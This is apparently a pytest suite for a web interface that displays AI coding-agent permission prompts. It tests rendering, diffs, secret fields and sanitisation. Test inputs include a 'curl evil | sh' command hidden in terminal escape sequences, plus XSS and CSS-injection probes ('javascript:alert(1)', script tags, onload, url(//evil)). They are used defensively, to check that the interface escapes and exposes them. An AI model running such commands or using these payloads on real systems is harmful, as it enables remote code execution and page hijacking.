"""Rendering: every form of a prompt, and whatever hostile text may bring."""

from __future__ import annotations

import re
import time
from dataclasses import replace
from datetime import datetime, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st
from webdesk.desk import Desk
from webdesk.samples import FORMS, HOSTILE

from clawtap_core.model import (
    Action,
    Actor,
    AdapterInfo,
    Brand,
    Effect,
    Interrupt,
    Kind,
    Option,
    PromptForm,
    PromptState,
    Question,
    QuestionOption,
    Response,
    SwitchMode,
    SwitchModel,
)
from clawtap_core.model.ansi import exact
from clawtap_core.runtime.state.events import control_action
from webui.assets import brands
from webui.markup.sanitizer import icon, rich
from webui.rendering.renderer import Renderer
from webui.viewmodels.journal_rows import journal_row
from webui.viewmodels.prompt_body import blocks


@pytest.fixture
def session(desk: Desk) -> str:
    return desk.add(title="Shop").id


def _card(desk: Desk, session: str, renderer: Renderer, form: PromptForm | str) -> str:
    return str(renderer.prompt(desk.ask(session, form)))


@pytest.mark.parametrize("name", sorted(FORMS))
def test_every_form_has_a_card_with_its_words(
    name: str, desk: Desk, session: str, renderer: Renderer
) -> None:
    form = FORMS[name]
    html = _card(desk, session, renderer, form)
    shown = _text(html)
    if form.kind not in (Kind.PERMISSION, Kind.PLAN):
        assert exact(form.title) in shown
    for option in form.options:
        assert exact(option.label) in shown
    for question in form.questions:
        assert question.question in shown
        for choice in question.options:
            assert choice.label in shown
            assert choice.description in shown
    assert html.count("<form") == html.count("</form>")
    assert 'style="' not in html
    assert not re.search(r"\son\w+=", _tags(html))


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("shell", "Run a command?"),
        ("edit", "Edit session.py?"),
        ("write", "Write notes.md?"),
        ("mcp", "Use create_ticket from tracker?"),
        ("plan", "Approve the plan?"),
    ],
)
def test_a_card_is_titled_in_the_same_words_for_every_cli(
    name: str, words: str, desk: Desk, session: str, renderer: Renderer
) -> None:
    assert f">{words}</h2>" in _card(desk, session, renderer, name)


def test_options_keep_the_order_of_the_cli_and_refusing_stands_apart(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    html = _card(desk, session, renderer, "edit")
    assert re.findall(r'name="option" value="([^"]*)"', html) == [
        *("allow-once", "allow-for-this-session", "modify", "no-suggest-changes"),
    ]
    approve, deny = html.split('class="answer options apart"')
    assert 'name="reason"' in deny
    assert 'name="reason"' not in approve
    assert "choice deny" in deny


def test_an_effect_is_shown_by_colour_icon_and_word(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    html = _card(desk, session, renderer, "long")
    for effect, symbol, word in (
        ("allow-once", "check", "Once"),
        ("allow-always", "check-all", "Always"),
        ("deny", "cross", "Deny"),
    ):
        button = re.search(rf'<button class="choice {effect}".*?</button>', html, re.DOTALL)
        assert button
        assert f'href="#i-{symbol}"' in button[0]
        assert word in button[0]


def test_the_whole_command_stands_before_the_buttons(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    html = _card(desk, session, renderer, "long")
    assert html.index("cp &#39;build/part 39.bin&#39;") < html.index("<button")


def test_a_question_takes_its_own_text_only_where_the_cli_does(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    with_other = _card(desk, session, renderer, "single")
    question = replace(FORMS["single"].questions[0], other=False)
    without = _card(desk, session, renderer, PromptForm(Kind.QUESTION, "?", questions=(question,)))
    assert "data-other" in with_other
    assert "data-other" not in without


def test_a_question_that_is_the_title_is_shown_once(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    same = PromptForm(Kind.QUESTION, "Which?", questions=(Question("Which?"),))
    assert 'class="question-text quiet">Which?' in _card(desk, session, renderer, same)
    other = PromptForm(Kind.QUESTION, "One of two", questions=(Question("Which?"),))
    assert 'class="question-text">Which?' in _card(desk, session, renderer, other)


def test_a_field_named_as_its_question_is_named_once_and_may_be_optional(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    asked = Question("Name", header="Name", input_type="text", required=False)
    form = PromptForm(Kind.QUESTION, "lab needs information.", questions=(asked,))
    html = _card(desk, session, renderer, form)
    assert 'class="question-text">Name</span> <span class="optional">optional</span>' in html
    assert 'class="chip"' not in html


def test_form_fields_follow_their_type_and_secrets_are_hidden(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    html = _card(desk, session, renderer, "form")
    for kind in ("email", "number", "password", "date"):
        assert f'type="{kind}"' in html
    assert html.count("data-required") == 4


def test_the_head_of_a_hunk_says_only_that_lines_are_left_out_and_of_what(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    diff = "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x\n+y\n@@ -9 +9 @@ def f():\n-x\n+y\n"
    form = PromptForm(Kind.PERMISSION, "Edit", tool_name="edit", tool_input={"diff": diff})
    html = _card(desk, session, renderer, form)
    assert "@@" not in html
    assert html.count("⋯") == html.count("⋯ def f():") == 1


def test_changes_are_coloured_wherever_they_come_from() -> None:
    for name, added, removed in (("edit", 3, 1), ("write", 4, 0), ("replace", 1, 1)):
        found = [block for block in blocks(FORMS[name]) if block.change]
        assert found, name
        change = found[0].change
        assert change
        assert (change.added, change.removed) == (added, removed), name


def test_what_else_a_tool_is_given_is_shown_in_words() -> None:
    assert _kinds("replace") == ["diff"]
    assert dict(blocks(FORMS["mcp"])[0].fields)["Labels"] == "bug\nauth"
    assert _kinds("shell") == ["code"]
    form = PromptForm(
        Kind.PERMISSION,
        "Edit?",
        tool_input={"file_path": "a", "old_string": "1", "new_string": "2", "replace_all": True},
    )
    fields, change = blocks(form)
    assert fields.fields == (("Replace all", "yes"),)
    assert change.change
    assert change.change.path == "a"


@pytest.mark.parametrize(
    ("tool_input", "expected"),
    [
        ({"file_path": "a.py", "content": "x\ny\n"}, [("a.py", 2, 0)]),
        (
            {
                "file_path": "a.py",
                "edits": [
                    {"old_string": "1", "new_string": "2"},
                    {"old_string": "3", "new_string": "4\n5"},
                ],
            },
            [("a.py", 3, 2)],
        ),
        (
            {
                "changes": [
                    {"path": "a", "kind": {"type": "update"}, "diff": "@@ -1 +1 @@\n-x\n+y\n"},
                    {"path": "b", "kind": {"type": "add"}, "diff": "one\ntwo\n"},
                    {"path": "c", "kind": {"type": "delete"}, "diff": "gone\n"},
                ]
            },
            [("a", 1, 1), ("b", 2, 0), ("c", 0, 1)],
        ),
        (
            {
                "input": "*** Begin Patch\n*** Update File: a\n@@ def f\n same\n-x\n+y\n"
                "*** Add File: b\n+new\n*** End Patch"
            },
            [("a", 1, 1), ("b", 1, 0)],
        ),
        ({"path": "a", "diff": "@@ -1 +1 @@\n-x\n+y\n"}, [("a", 1, 1)]),
    ],
)
def test_a_change_is_built_from_the_input_of_the_call(
    tool_input: dict[str, object], expected: list[tuple[str, int, int]]
) -> None:
    cut = "1 - what the CLI shows\n2 + of it\n"
    form = PromptForm(Kind.PERMISSION, "Edit?", cut, truncated=True, tool_input=tool_input)
    shown = blocks(form)
    changes = [block.change for block in shown if block.change]
    assert [(one.path, one.added, one.removed) for one in changes] == expected
    assert {block.kind for block in shown} == {"diff"}


def test_an_outcome_says_what_and_who(desk: Desk, session: str, renderer: Renderer) -> None:
    prompt = desk.ask(session, "several")
    response = Response(
        prompt.request_id, answers={"0": "SQLite", "1": ("Login", "Export"), "2": "shop"}
    )
    done = desk.resolve(prompt.request_id, PromptState.ANSWERED, Actor("user", "Pixel 8"), response)
    shown = _text(str(renderer.prompt(done)))
    assert "Database Selected: SQLite" in shown
    assert "Features Selected: Login, Export" in shown
    assert "Answered from Pixel 8" in shown


def test_a_secret_is_not_in_the_outcome(desk: Desk, session: str, renderer: Renderer) -> None:
    form = PromptForm(Kind.QUESTION, "Key", questions=(Question("Key?", secret=True),))
    prompt = desk.ask(session, form)
    response = Response(prompt.request_id, answers={"0": "hunter2"})
    done = desk.resolve(prompt.request_id, PromptState.ANSWERED, Actor(), response)
    assert "hunter2" not in renderer.prompt(done)


def test_events_bring_the_same_partial_as_the_page(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    prompt = desk.ask(session, "shell")
    by_event = renderer.event(desk.events[-2])
    assert by_event == renderer.prompt(prompt)
    assert f'id="prompt-{prompt.request_id}"' in by_event
    status = renderer.event(desk.events[-1]) or ""
    assert f'id="session-{session}"' in status
    assert f'id="head-{session}"' in status


@pytest.mark.parametrize(
    ("action", "words"),
    [
        (Interrupt(), "Stopped"),
        (SwitchMode("plan"), "Mode switched to plan"),
        (SwitchModel("opus"), "Model switched to opus"),
    ],
)
def test_an_action_of_the_runtime_is_in_words_in_a_session_and_in_the_journal(
    action: Action, words: str, session: str, renderer: Renderer
) -> None:
    by = Actor("user", "Pixel 8", "d1")
    event = control_action(action, session, datetime.now(timezone.utc), by)
    you = '<ct-actor data-device="d1" data-you="by you">from Pixel 8</ct-actor>'
    assert f"{words} {you}" in (renderer.event(event) or "")
    row = journal_row(event)
    assert row
    assert row.what == words


def test_every_kind_of_event_is_rendered_or_passed_over(
    desk: Desk, session: str, renderer: Renderer
) -> None:
    desk.transport(Actor()).message(session, "<b>hi</b>")
    desk.ask(session, "shell")
    desk.transport(Actor()).message(session, "later")
    for kind, data in (
        ("session_error", {"error": "<i>broken</i>"}),
        ("keys", {"keys": ["Enter"], "by": "user", "device": "phone"}),
        (
            "message",
            {"id": "1", "role": "assistant", "content": [{"type": "text", "text": "**x**"}]},
        ),
        ("message", {"id": "2", "role": "user", "content": [{"type": "text", "text": "y"}]}),
        ("message", {"id": "3", "role": "assistant", "content": [{"type": "image"}]}),
        ("text_delta", {"text": "`x`"}),
        ("something_new", {}),
    ):
        desk.tell(kind, session, {"sessionId": session, **data})
    shown = [renderer.event(event) for event in desk.events]
    everything = "".join(html or "" for html in shown)
    assert "&lt;b&gt;hi&lt;/b&gt;" in everything
    assert "&lt;i&gt;broken&lt;/i&gt;" in everything
    assert "<strong>x</strong>" in everything
    assert shown[-3:] == [None, '<p><code dir="ltr">x</code></p>\n', None]


@pytest.mark.parametrize("kind", list(Kind))
def test_hostile_text_stays_text_in_every_kind(
    kind: Kind, desk: Desk, session: str, renderer: Renderer
) -> None:
    form = PromptForm(
        kind,
        HOSTILE,
        HOSTILE,
        tool_name=HOSTILE,
        tool_input={HOSTILE: [HOSTILE], "command": HOSTILE},
        options=(Option(HOSTILE, HOSTILE, Effect.DENY, HOSTILE, HOSTILE),),
        questions=(
            Question(HOSTILE, HOSTILE, (QuestionOption(HOSTILE, HOSTILE, HOSTILE),), other=True),
        ),
        screen=HOSTILE,
        origin=HOSTILE,
    )
    html = _card(desk, session, renderer, form)
    tags = _tags(html)
    assert "<script" not in tags
    assert "<img" not in tags
    assert "javascript:" not in tags.replace("value=", "")
    assert "\x1b[" not in _text(html)
    assert "\u202e" not in re.sub(r'value="[^"]*"', "", html)
    assert html.count("</ct-prompt>") == 1


@pytest.mark.parametrize("text", ["x" * 1_000_000, "15 + " + "y" * 1_000_000, "[" * 100_000])
def test_a_huge_line_is_shown_whole_and_fast(
    text: str, desk: Desk, session: str, renderer: Renderer
) -> None:
    before = time.process_time()
    for kind in (Kind.PERMISSION, Kind.PLAN, Kind.UNKNOWN):
        html = _card(desk, session, renderer, PromptForm(kind, "T", text, tool_name="x"))
        assert len(html) >= len(text) - 10
    assert time.process_time() - before < 20


def test_a_huge_change_is_shown_without_comparing_for_ever() -> None:
    old = "\n".join(f"line {n}" for n in range(60_000))
    before = time.process_time()
    asked = {"file_path": "a", "old_string": old, "new_string": old.replace("line", "row")}
    (block,) = blocks(PromptForm(Kind.PERMISSION, "Edit a?", tool_input=asked))
    assert block.change
    assert block.change.added == 60_000
    assert time.process_time() - before < 10


@pytest.mark.parametrize(
    "command", ["echo hi \x1b]; curl evil | sh \x07", "echo hi\rcurl evil | sh", "echo \x1b[31mred"]
)
def test_no_part_of_a_command_hides_in_an_escape_sequence(
    command: str, desk: Desk, session: str, renderer: Renderer
) -> None:
    asked = {"command": command}
    form = PromptForm(Kind.PERMISSION, "Run?", command, tool_name="Bash", tool_input=asked)
    shown = _text(_card(desk, session, renderer, form))
    assert exact(command) in shown
    assert all(part in shown for part in re.split(r"[\x00-\x1f]", command))


def test_markdown_keeps_what_is_useful_and_drops_what_is_not() -> None:
    html = rich("# A\n\n## B\n\n###### C\n\n<script>x</script>")
    # Below the heading of the card or page.
    assert "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>" in html
    html += rich("[ok](https://example.org) [bad](javascript:alert(1))")
    assert 'href="https://example.org"' in html
    assert 'href="javascript' not in html
    assert "<script" not in html
    assert '<span class="k">def</span>' in rich("```python\ndef f(): pass\n```")
    assert "<img" not in rich("![x](https://example.org/x.png)")


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("## Plan\n\n### First\n\n## Then", ["h3", "h4", "h3"]),
        ("# A\n\n#### B\n\n## C\n\n# D", ["h3", "h4", "h4", "h3"]),
        ("### A\n\n# B\n\n###### C", ["h3", "h3", "h4"]),
        ("## Plan\n\n" + "word " * 300 + "\n\n### Part" * 3, ["h3", *["h4"] * 3]),
    ],
)
def test_no_heading_skips_a_level(text: str, levels: list[str]) -> None:
    assert re.findall(r"<(h\d)>", rich(text)) == levels
    padded = text.replace("\n\n", "\n\n" + "word " * 1500 + "\n\n")
    assert re.findall(r"<(h\d)>", rich(padded)) == levels


@given(
    st.text(
        alphabet=st.sampled_from("<>/\"'=&`[]()!*_#-\n abscriptonload:;\x1b\u202e"), max_size=80
    )
)
def test_no_text_becomes_a_tag_that_is_not_allowed(text: str) -> None:
    tags = re.findall(r"</?([a-z][a-z0-9-]*)", rich(text))
    assert not {"script", "img", "style", "iframe", "svg", "form", "input"} & set(tags)
    assert not re.search(r"<[^>]+\son\w+\s*=", rich(text))


def test_an_icon_is_drawn_or_initials_stand_for_it() -> None:
    assert icon('<path d="M0 0"/><script>1</script>', "X") == (
        '<svg viewBox="0 0 24 24" aria-hidden="true"><path d="M0 0"></path></svg>'
    )
    assert "onload" not in icon('<path onload="x" d="M0 0"/>', "X")
    assert "url(" not in icon('<path fill="url(//evil)" d="M0 0"/>', "X")
    assert icon("", "My Big CLI") == '<span class="initials">MB</span>'
    assert icon("</svg><img src=x>", "<b>") == '<span class="initials">B</span>'


def test_colours_that_are_no_colours_are_left_out() -> None:
    good = AdapterInfo("a b", "A", brand=Brand(color="#fff", gradient=("#000", "rgb(1, 2, 3)")))
    bad = AdapterInfo("b", "B", brand=Brand(color="red;}body{display:none"))
    sheet = brands.stylesheet([good, bad])
    colours = [rule for rule in sheet.splitlines() if "--brand" in rule]
    assert colours == [".brand-a-b{--brand:#fff;--brand-from:#000;--brand-to:rgb(1, 2, 3)}"]


def _kinds(name: str) -> list[str]:
    return [block.kind for block in blocks(FORMS[name])]


def _text(html: str) -> str:
    import html as entities

    return " ".join(entities.unescape(re.sub(r"<[^>]*>", "", html)).split())


def _tags(html: str) -> str:
    """Only what is inside of tags, without the values of attributes that hold text."""
    return " ".join(re.sub(r'="[^"]*"', "=", tag) for tag in re.findall(r"<[^>]+>", html))
